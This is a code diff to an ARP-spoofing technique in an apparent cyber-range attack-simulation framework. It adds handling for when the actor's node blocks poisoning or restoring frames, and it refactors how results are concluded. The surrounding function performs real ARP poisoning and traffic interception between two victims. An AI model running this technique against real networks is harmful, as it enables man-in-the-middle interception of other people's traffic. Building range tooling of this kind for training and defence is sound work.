@@ -27,11 +27,19 @@ import threading
 import time
 
 from cyberrange.attack.spec import Param, technique
-from cyberrange.attack.techniques.common import Result, _unique_ips
+from cyberrange.attack.techniques.common import (
+    Blocked,
+    Result,
+    _unique_ips,
+    conclude,
+    count_arp,
+    send_or_block,
+)
 from cyberrange.attack.techniques.layer2 import (
     ETH_P_IP,
     PACKET_OUTGOING,
     arp_resolve,
+    isolation_reason,
     route_targets,
 )
 
@@ -119,6 +127,9 @@ def arp_spoof(targets: list[str], params: dict) -> Result:
         res.end = time.time()
         return res
     hops = route_targets(ips, res.log)
+    cut_off = None if hops else isolation_reason()
+    if cut_off:
+        return conclude(res, False, cut_off)
     if len(hops) != 2 or any(h.gw for h in hops) or hops[0].iface != hops[1].iface:
         res.outcome = "failed"
         res.error = "both victims must be on one of the actor's links (ARP does not cross routers)"
@@ -129,10 +140,8 @@ def arp_spoof(targets: list[str], params: dict) -> Result:
     macs = arp_resolve(iface, my_ip, ips, float(params["timeout"]))
     missing = [ip for ip in ips if ip not in macs]
     if missing:
-        res.outcome = "failed"
         res.log.append(f"victims did not answer ARP: {', '.join(missing)}; nothing poisoned")
-        res.end = time.time()
-        return res
+        return conclude(res, False, None if macs else isolation_reason())
     a, b = ips
 
     def garp(victim: str, claimed_ip: str, claimed_mac: str) -> bytes:
@@ -155,21 +164,28 @@ def arp_spoof(targets: list[str], params: dict) -> Result:
         t0 = time.monotonic()
         while True:
             for f in poison:
-                sock.send(f)
+                send_or_block(sock.send, f, f"a poisoning frame out of {iface}")
                 frames += 1
+                count_arp()
             rounds += 1
             nxt = t0 + rounds * interval
             if nxt >= t0 + duration:
                 time.sleep(max(0.0, t0 + duration - time.monotonic()))
                 break
             time.sleep(max(0.0, nxt - time.monotonic()))
+    except Blocked as exc:          # the actor's node stopped the poisoning
+        res.cut(exc.reason)
     finally:
-        if restore:
-            for _ in range(restore_count):
-                for f in heal:
-                    sock.send(f)
-                    frames += 1
-                time.sleep(0.05)
+        try:
+            if restore:
+                for _ in range(restore_count):
+                    for f in heal:
+                        send_or_block(sock.send, f, f"a restoring frame out of {iface}")
+                        frames += 1
+                        count_arp()
+                    time.sleep(0.05)
+        except Blocked:
+            res.log.append("the true mappings could not be sent back (blocked too)")
         sock.close()
         intercepted = sniffer.stop() if sniffer else 0
         if forward:
@@ -186,6 +202,4 @@ def arp_spoof(targets: list[str], params: dict) -> Result:
     res.facts = {"victims": [a, b], "victim_macs": {a: macs[a], b: macs[b]}, "actor_mac": my_mac,
                  "arp_frames": frames, "intercepted_packets": intercepted,
                  "forwarded": forward}
-    res.outcome = "succeeded"
-    res.end = time.time()
-    return res
+    return conclude(res, True, None)
